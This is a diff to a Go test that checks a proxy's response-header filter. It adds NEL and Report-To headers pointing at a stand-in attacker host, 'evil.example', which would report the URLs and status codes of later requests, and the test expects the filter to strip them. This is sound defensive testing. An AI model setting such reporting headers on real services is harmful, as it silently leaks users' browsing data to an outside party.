@@ -124,6 +124,8 @@ func TestCookiesForOtherHostsAreDropped(t *testing.T) {
 		"__Host-switchyard-12=s; Secure; Path=/", " __Host-switchyard-x=; Max-Age=0",
 	}
 	h := textproto.MIMEHeader{"Set-Cookie": slices.Concat(drop[:3], stay, drop[3:]), "X": {"1"}}
+	h.Set("NEL", `{"report_to":"evil","max_age":86400,"success_fraction":1}`) // reports URLs of later requests, with codes
+	h.Set("Report-To", `{"group":"evil","max_age":86400,"endpoints":[{"url":"https://evil.example/"}]}`)
 	headers.Answer(h, "web--pr-1.preview.example.net:8445")
 	if !reflect.DeepEqual(h, textproto.MIMEHeader{"Set-Cookie": stay, "X": {"1"}}) {
 		t.Errorf("the answer has %q", h)
